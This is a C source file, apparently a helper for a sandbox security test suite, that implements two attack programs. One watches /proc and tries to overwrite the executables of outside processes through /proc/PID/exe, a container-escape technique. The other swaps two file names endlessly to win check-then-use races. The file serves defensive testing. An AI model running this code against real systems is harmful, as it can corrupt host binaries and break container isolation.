/* attack: the hostile programs of test_security.py that a shell can't be.
 *
 *   attack exe       (inside a container) opens /proc/PID/exe of every process that appears and is
 *                    not one of its own, and tries to overwrite the file behind it
 *   attack flip A B  exchanges two names for ever, to win a race between a check and a use */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define HELD_MAX 64

static struct stat own;
static int held[HELD_MAX];
static dev_t devs[HELD_MAX];
static ino_t inodes[HELD_MAX];
static int n_held;

static void hold(const char *pid)
{
        char path[64];
        struct stat st;
        snprintf(path, sizeof path, "/proc/%.20s/exe", pid);
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd < 0)
                return;
        int known = fstat(fd, &st) < 0 || (st.st_dev == own.st_dev && st.st_ino == own.st_ino);
        for (int i = 0; i < n_held; i++)
                known |= devs[i] == st.st_dev && inodes[i] == st.st_ino;
        if (known || n_held == HELD_MAX) {
                close(fd);
                return;
        }
        held[n_held] = fd;
        devs[n_held] = st.st_dev;
        inodes[n_held++] = st.st_ino;
        printf("holding %s\n", path);
        fflush(stdout);
}

static void overwrite(int fd)
{
        static const char text[] = "#!/bin/sh\necho overwritten\n";
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        int w = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
        if (w < 0)
                return; /* ETXTBSY while it runs: try again */
        if (write(w, text, sizeof text - 1) > 0) {
                printf("overwritten\n");
                fflush(stdout);
        }
        close(w);
}

static int do_exe(void)
{
        if (stat("/proc/self/exe", &own) < 0)
                return 1;
        printf("watching\n");
        fflush(stdout);
        while (n_held >= 0) {
                DIR *d = opendir("/proc");
                struct dirent *entry;
                while (d && (entry = readdir(d)))
                        if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9')
                                hold(entry->d_name);
                closedir(d);
                for (int i = 0; i < n_held; i++)
                        overwrite(held[i]);
        }
        return 0;
}

static int do_flip(const char *a, const char *b)
{
        while (access("/", F_OK) == 0)
                if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0)
                        usleep(1000);
        return 0;
}

int main(int argc, char **argv)
{
        if (argc == 2 && strcmp(argv[1], "exe") == 0)
                return do_exe();
        if (argc == 4 && strcmp(argv[1], "flip") == 0)
                return do_flip(argv[2], argv[3]);
        return 64;
}
